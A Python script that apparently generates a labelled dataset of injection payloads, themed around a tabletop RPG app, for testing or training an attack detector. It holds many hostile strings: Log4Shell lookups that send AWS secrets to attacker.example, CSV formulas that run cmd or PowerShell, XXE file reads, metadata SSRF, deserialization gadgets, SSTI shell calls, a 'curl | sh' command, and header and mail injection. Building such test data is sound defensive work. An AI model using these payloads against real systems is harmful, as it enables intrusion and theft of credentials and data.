    ("notes-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/}"),
    ("notes-log4shell-default", "${${::-j}${::-n}${::-d}${::-i}:ldaps://attacker.example/z}"),
    ("character-json-proto", "{\"name\": \"Brom\", \"__proto__\": {\"isAdmin\": true}}"),
    ("character-json-constructor", "{\"class\": \"Fighter\", \"constructor\": {\"prototype\": {\"role\": \"gm\"}}}"),
    ("character-json-proto-rce", "{\"__proto__\": {\"shell\": \"/bin/sh\", \"NODE_OPTIONS\": \"--require /proc/self/environ\"}}"),
    ("query-proto-pollution", "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("query-proto-pollution", "__proto__.polluted=yes&constructor.prototype.admin=1"),
    ("loot-csv-formula", "=HYPERLINK(\"https://attacker.example/?\"&A1&B1,\"Claim loot\")"),
    ("loot-csv-formula", "=cmd|' /C calc'!A0"),
    ("loot-csv-formula", "+\"1d6 gp\"&WEBSERVICE(\"https://attacker.example/l?\"&C2&D2)"),
    ("loot-csv-formula", "@SUM(1+9)*cmd|' /C powershell -c iwr attacker.example'!A1"),
    ("loot-csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("loot-csv-formula-ods", "=IMPORTXML(CONCAT(\"https://attacker.example/?d=\",A2:A40),\"//a\")"),
    ("import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE sheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><character><name>&xxe;</name></character>"),
    ("import-xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><character><name>Mira</name></character>"),
    ("import-xxe-ssrf", "<!DOCTYPE npc [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><npc><notes>&m;</notes></npc>"),
    ("import-xxe-php-filter", "<!DOCTYPE x [<!ENTITY f SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><spell><desc>&f;</desc></spell>"),
    ("import-xinclude", "<spell xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></spell>"),
    ("import-billion-laughs", "<!DOCTYPE d [<!ENTITY a \"dddddddddd\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY e \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><loot>&e;</loot>"),
    ("import-yaml-python-object", "name: Brom\nclass: !!python/object/apply:os.system [\"id\"]"),
    ("import-yaml-python-object", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("import-pickle-base64", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAZpZCA+IHiUhZRSlC4="),
    ("import-php-serialized", "O:8:\"Campaign\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("import-java-serialized-b64", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7"),
    ("import-dotnet-typename", "{\"$type\": \"System.Windows.Data.ObjectDataProvider, PresentationFramework\", \"MethodName\": \"Start\", \"ObjectInstance\": {\"$type\": \"System.Diagnostics.Process, System\"}, \"MethodParameters\": {\"$type\": \"System.Collections.ArrayList\", \"$values\": [\"cmd\", \"/c calc\"]}}"),
    ("import-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example:1389/Obj\", \"autoCommit\": true}]"),
    ("import-fastjson-autotype", "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"rmi://203.0.113.30:1099/x\", \"autoCommit\": true}"),
    ("plain-ssti-probe", "${{7*7}}"),
    ("plain-ssti-jinja", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto", "{\"__proto__\": {\"admin\": true}}"),
    ("plain-csv-formula", "=1+1+cmd|' /C calc'!A1"),
    ("plain-python-eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("notes-log4shell+case-lookup", "${${upper:j}ndi:${lower:L}dap://attacker.example/q}"),
    ("notes-ssti-jinja+hex-escapes", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}"),
    ("character-json-proto+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"isGm\": true}}"),
    ("notes-log4shell+urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fb%7D"),
    ("spell-ssti-erb+html-entity", "&lt;%= `id` %&gt;"),
]
CODE_WRAP = ["Recap: ", "Gr'thak says ", "Spell: ", "HP 27 ", "Loot note: "]
CODE_CORE = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${jndi:ldap://log.attacker.example/x}",
             "<%= `whoami` %>", "${T(java.lang.Runtime).getRuntime().exec('id')}", "#{7*7}${7*7}"]


def t_code(rng):
    return "notes-wrapped-payload", rng.choice(CODE_WRAP) + rng.choice(CODE_CORE)


# ------------------------------------------------------------------ nosqli
NOSQL = [
    ("login-operator-ne", "{\"username\": \"gm\", \"password\": {\"$ne\": null}}"),
    ("login-operator-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-query-bracket", "username=admin&password[$ne]=x"),
    ("login-query-regex", "username[$regex]=^gm&password[$exists]=true"),
    ("search-regex-exfil", "{\"name\": {\"$regex\": \"^a\"}, \"secret_notes\": {\"$regex\": \"^d\"}}"),
    ("search-where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where-js", "'; return this.role == 'gm'; var x='"),
    ("npc-where-string-breakout", "Gr\u2019thak' || '1'=='1"),
    ("character-json-in-operator", "{\"owner\": {\"$in\": [\"mira\", \"brom\", \"admin\"]}}"),
    ("character-json-or", "{\"$or\": [{\"campaign\": \"lost-mine\"}, {\"is_private\": true}]}"),
    ("dice-operator-nin", "{\"roll\": {\"$nin\": []}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("aggregate-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("loot-update-set", "{\"$set\": {\"role\": \"gm\", \"gold\": 999999}}"),
    ("init-mapreduce-js", "{\"mapReduce\": \"characters\", \"map\": \"function(){ emit(1, db.users.findOne()) }\", \"reduce\": \"function(k,v){return v}\"}"),
    ("notes-couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password_scheme\", \"derived_key\"]}"),
    ("session-redis-eval", "EVAL \"return redis.call('config','get','*')\" 0"),
    ("plain-operator-ne", "{\"$ne\": 1}"),
    ("plain-where", "{\"$where\": \"1==1\"}"),
    ("plain-query-bracket", "password[$gt]="),
    ("plain-regex", "{\"$regex\": \".*\"}"),
    ("login-operator+urlencode", "username=gm&password%5B%24ne%5D=wrong"),
    ("search-regex+unicode-escape", "{\"name\": {\"\\u0024regex\": \".*\"}}"),
]
NOSQL_OPS = ["$ne", "$gt", "$exists", "$regex"]
NOSQL_FIELDS = ["password", "gm_token", "api_key", "invite_code"]


def t_nosql(rng):
    op = rng.choice(NOSQL_OPS)
    val = {"$ne": "\"x\"", "$gt": "\"\"", "$exists": "true", "$regex": "\".*\""}[op]
    return "login-operator-field", f"{{\"email\": {{\"$ne\": null}}, \"{rng.choice(NOSQL_FIELDS)}\": {{\"{op}\": {val}}}}}"


# ------------------------------------------------------------------ crlf
CRLF = [
    ("notes-log-forging", "Session saved\n2026-03-01 12:00:01 INFO user=admin action=grant_gm campaign=7 result=ok"),
    ("notes-log-forging", "rested at inn\r\n[AUDIT] gm 'mira' deleted campaign 12 — approved"),
    ("npc-log-forging", "Gr'thak\n127.0.0.1 - admin [01/Mar/2026:10:00:00 +0000] \"POST /api/admin/reset HTTP/1.1\" 200 12"),
    ("dice-log-forging", "1d20+5\nERROR auth: password for user 'gm' is Dr4gonF1re (rotating)"),
    ("export-filename-header-split", "recap.pdf\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("export-filename-header-split", "loot.csv\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-param-header-split", "/campaigns/7\r\nLocation: https://attacker.example/"),
    ("redirect-param-response-split", "/dice\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired, log in at attacker.example</h1>"),
    ("lang-header-injection", "fr\r\nX-Forwarded-For: 127.0.0.1"),
    ("lang-header-injection", "en-GB\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("invite-mail-bcc", "mira@rpg.example\r\nBcc: everyone@attacker.example"),
    ("invite-mail-subject", "Session 13 invite\r\nCc: list@attacker.example\r\n\r\nYour account is suspended, reset at https://attacker.example/reset"),
    ("invite-mail-from-name", "Dungeon Master\nReply-To: gm@attacker.example"),
    ("invite-mail-smtp-smuggle", "hi\r\n.\r\nMAIL FROM:<gm@rpg.example>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nphish\r\n.\r\n"),
    ("webhook-header-injection", "Discord-Bot\r\nAuthorization: Bearer FAKE-TOKEN-0000"),
    ("cache-key-header-injection", "lost-mine\r\nX-Accel-Redirect: /internal/backups/db.sql"),
    ("macro-log-ansi", "/r 1d20\u001b[2J\u001b[1;31mSYSTEM: GM privileges granted\u001b[0m"),
    ("spell-log-forging", "Shield\n[2026-03-02T08:00:00Z] level=info msg=\"login ok\" user=admin ip=10.0.0.1"),
    ("plain-crlf-header", "\r\nSet-Cookie: admin=1"),
    ("plain-crlf-log", "ok\nINFO admin logged in"),
    ("plain-crlf-mail", "x@rpg.example\nBcc: y@attacker.example"),
    ("plain-crlf-location", "\r\nLocation: https://attacker.example/"),
    ("export-filename+urlencode", "recap.pdf%0d%0aSet-Cookie:%20gm=1"),
    ("redirect-param+double-urlencode", "/campaigns%250d%250aLocation:%2520https://attacker.example/"),
    ("redirect-param+unicode-newline", "/dice\u560d\u560aSet-Cookie: x=1"),
    ("notes-log-forging+unicode-line-sep", "rested\u2028INFO user=gm action=delete_all result=ok"),
    ("lang-header+lf-only", "de\nX-Original-URL: /admin"),
]
CRLF_HEADERS = ["Set-Cookie: gm_session=fixed", "Location: https://attacker.example/", "X-Forwarded-Host: attacker.example",
                "Refresh: 0; url=https://attacker.example/"]
CRLF_FIELDS = ["session-12.pdf", "/campaigns/3", "en-US", "Brom.json"]


def t_crlf(rng):
    return "header-split-wrapped", f"{rng.choice(CRLF_FIELDS)}\r\n{rng.choice(CRLF_HEADERS)}"


# ------------------------------------------------------------------ ldap-xpath
LDAP = [
    ("player-dir-ldap-wildcard", "*"),
    ("player-dir-ldap-or-injection", "mira)(|(uid=*))"),
    ("player-dir-ldap-auth-bypass", "admin)(&)"),
    ("player-dir-ldap-attr-exfil", "brom)(userPassword=a*"),
    ("player-dir-ldap-group", "*)(memberOf=cn=gamemasters,ou=groups,dc=rpg,dc=example"),
    ("player-dir-ldap-null-trunc", "gm)(|(objectClass=*))%00"),
    ("npc-ldap-cn-injection", "Gr'thak*)(cn=*"),
    ("guild-ldap-and-injection", "*))(&(objectClass=person)(description=*"),
    ("guild-ldap+hex-escape", "\\2a)(uid=\\2a"),
    ("sheet-xpath-boolean", "Gr\u2019thak' or '1'='1"),
    ("sheet-xpath-auth-bypass", "' or 1=1 or ''='"),
    ("sheet-xpath-node-exfil", "x'] | //user/password | //x['"),
    ("sheet-xpath-blind", "Mira' and substring(//user[1]/password,1,1)='d' and '1'='1"),
    ("sheet-xpath-count", "' or count(//campaign)>3 or 'a'='b"),
    ("spell-xpath-name-probe", "Fireball' and string-length(name(/*[1]))=8 and ''='"),
    ("sheet-xpath-doc-ssrf", "' or doc('http://attacker.example/x')//a or '"),
    ("plain-ldap-or", "*)(|(cn=*"),
    ("plain-xpath-or", "' or '1'='1"),
    ("sheet-xpath+urlencode", "%27%20or%20%271%27%3D%271"),
]
LDAP_NAMES = ["mira", "brom", "ilsa", "kael", "tamsin"]
LDAP_ATTR = ["userPassword", "mail", "telephoneNumber", "description"]


def t_ldap(rng):
    return "player-dir-ldap-attr-probe", f"{rng.choice(LDAP_NAMES)})({rng.choice(LDAP_ATTR)}={rng.choice('abcdefgh')}*"


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 10),
    ("xss", XSS, t_xss, 10),
    ("cmdi", CMDI, t_cmdi, 9),
    ("traversal", TRAV, t_trav, 8),
    ("ssrf", SSRF, t_ssrf, 6),
    ("code", CODE, t_code, 3),
    ("nosqli", NOSQL, t_nosql, 4),
    ("crlf", CRLF, t_crlf, 4),
    ("ldap-xpath", LDAP, t_ldap, 2),
]

# Encoded variants computed from hand-written payloads (class suffix +urlencode).
ENCODED_EXTRA = [
    ("sqli", "search-union-select+urlencode", "mimic' UNION SELECT login, token FROM api_keys-- -"),
    ("xss", "macro-svg+urlencode", "/em <svg onload=alert(document.cookie)>"),
    ("cmdi", "portrait-filename-subshell+urlencode", "token.png;$(curl attacker.example/t|sh)"),
    ("code", "notes-ssti-jinja+urlencode", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = {}
    for cat, literals, tpl, n_tpl in CATEGORIES:
        n_lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template exhausted for {cat}")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats[cat] = [n_lit + made, n_lit]
    for cat, cls, raw in ENCODED_EXTRA:
        v = quote(raw, safe="")
        if v in seen:
            raise SystemExit(f"duplicate encoded value: {v!r}")
        seen.add(v)
        rows.append((cat, cls, v))
        stats[cat][0] += 1
    # keep categories contiguous in file order
    order = [c[0] for c in CATEGORIES]
    rows.sort(key=lambda r: order.index(r[0]))
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat in order:
        n, lit = stats[cat]
        total_lit += lit
        print(f"{cat:12s} {n:4d}  literals {lit:3d}")
    print(f"{'TOTAL':12s} {len(out):4d}  literals {total_lit} ({100 * total_lit // len(out)}%)")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"plain- classes {plain}, encoded classes {enc}")


if __name__ == "__main__":
    main()
